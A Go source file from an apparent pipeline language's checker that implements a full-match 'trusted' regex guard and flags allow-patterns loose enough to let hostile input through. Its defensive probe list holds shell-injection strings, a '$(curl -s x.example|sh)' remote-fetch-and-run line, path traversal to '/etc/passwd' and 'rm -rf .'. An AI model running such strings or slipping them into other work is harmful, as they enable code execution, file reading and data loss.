package expr

import (
	"regexp"
	"strings"
	"sync"

	celast "github.com/google/cel-go/common/ast"
	celtypes "github.com/google/cel-go/common/types"
	"github.com/google/cel-go/common/types/ref"

	"github.com/pipelang/pipe/lang/diag"
	"github.com/pipelang/pipe/lang/source"
)

// full is a pattern of trusted, which a text matches as a whole or not at all. It is safe for
// concurrent use.
type full struct{ re *regexp.Regexp }

// newFull compiles a pattern. Nothing is put around its text, so that nothing in it (a parenthesis,
// \Q, a flag) can undo what was put there: the longest match is asked whether it is all of the text.
func newFull(pattern string) (full, error) {
	re, err := regexp.Compile(pattern)
	if err != nil {
		return full{}, err
	}
	re.Longest()
	return full{re}, nil
}

func (f full) admits(text string) bool {
	at := f.re.FindStringIndex(text)
	return at != nil && at[0] == 0 && at[1] == len(text)
}

// tricks are what strangers write into names, by what it does: each kind in several ways, short,
// without letters, with one character or another left out, so that a pattern such as [^x]* or
// .{1,8} is no way around them.
var tricks = struct{ quote, command, backtick, path, option, words []string }{
	quote:    []string{`";id;#`, `';id;'`, `";1;"`, `"&id&"`, `'|id|'`, `";w`, `';`, "\"\nid\n\""},
	command:  []string{`$(id)`, `$(w)`, `$(1)`, `${IFS}`, `x$(id)x`, `$(curl -s x.example|sh)`},
	backtick: []string{"`id`", "`w`", "`1`", "x`id`x"},
	path:     []string{`../../x`, `..`, `../1`, `/etc/passwd`, `a/../../b`, `..\..\x`},
	option:   []string{`--flag`, `-x`, `--1`, `-1`, `--output=/etc/passwd`},
	words:    []string{`a b`, `1 1`, "a\tb", "\n", "a\nb", "\x00", `rm -rf .`},
}

func (f full) admitsAny(texts []string) bool {
	for _, t := range texts {
		if f.admits(t) {
			return true
		}
	}
	return false
}

// admitsEverything reports a pattern that lets through two of the three ways into a shell (out of
// a quotation, $(…), backticks), and a way out of a folder, and options or words of their own: it
// keeps nothing out that matters.
func (f full) admitsEverything() bool {
	shell := 0
	for _, way := range [][]string{tricks.quote, tricks.command, tricks.backtick} {
		if f.admitsAny(way) {
			shell++
		}
	}
	return shell >= 2 && f.admitsAny(tricks.path) && (f.admitsAny(tricks.option) || f.admitsAny(tricks.words))
}

// trustedPattern reports a pattern of trusted that keeps nothing out.
func (r *refiner) trustedPattern(e celast.Expr) bool {
	if e.Kind() != celast.LiteralKind {
		return true
	}
	s, ok := e.AsLiteral().(celtypes.String)
	if !ok {
		return true
	}
	f, err := newFull(string(s))
	if err != nil || !f.admitsEverything() { // one that does not compile has been reported
		return true
	}
	r.fail(trustsEverything(r.low.span(e.ID()), string(s)))
	return false
}

func trustsEverything(at source.Span, pattern string) diag.Diagnostic {
	return diag.Diagnostic{Rule: diag.TrustsAnything, Span: at,
		Message: "the pattern " + cut(pattern) + " admits everything, `\";id;#`, `$(id)` and `../../x` included",
		Help:    `say which characters are expected, as in r"[a-z0-9][a-z0-9._/-]*"`}
}

// patterns are the patterns of trusted, compiled: they are literals, so there are few.
var patterns sync.Map

// runTrusted gives the value back when all of it matches.
func runTrusted(v, pattern ref.Val) ref.Val {
	s, ok := v.(celtypes.String)
	p, okPattern := pattern.(celtypes.String)
	if !ok || !okPattern {
		return celtypes.NewErr("trusted takes a string, found %s", runKind(v))
	}
	f, _ := patterns.Load(p)
	if f == nil {
		compiled, err := newFull(string(p))
		if err != nil {
			return celtypes.NewErr("no regular expression: %s", strings.TrimPrefix(err.Error(), "error parsing regexp: "))
		}
		f, _ = patterns.LoadOrStore(p, compiled)
	}
	if !f.(full).admits(string(s)) {
		return celtypes.NewErr("%q is not admitted by %s", cut(string(s)), string(p))
	}
	return s
}
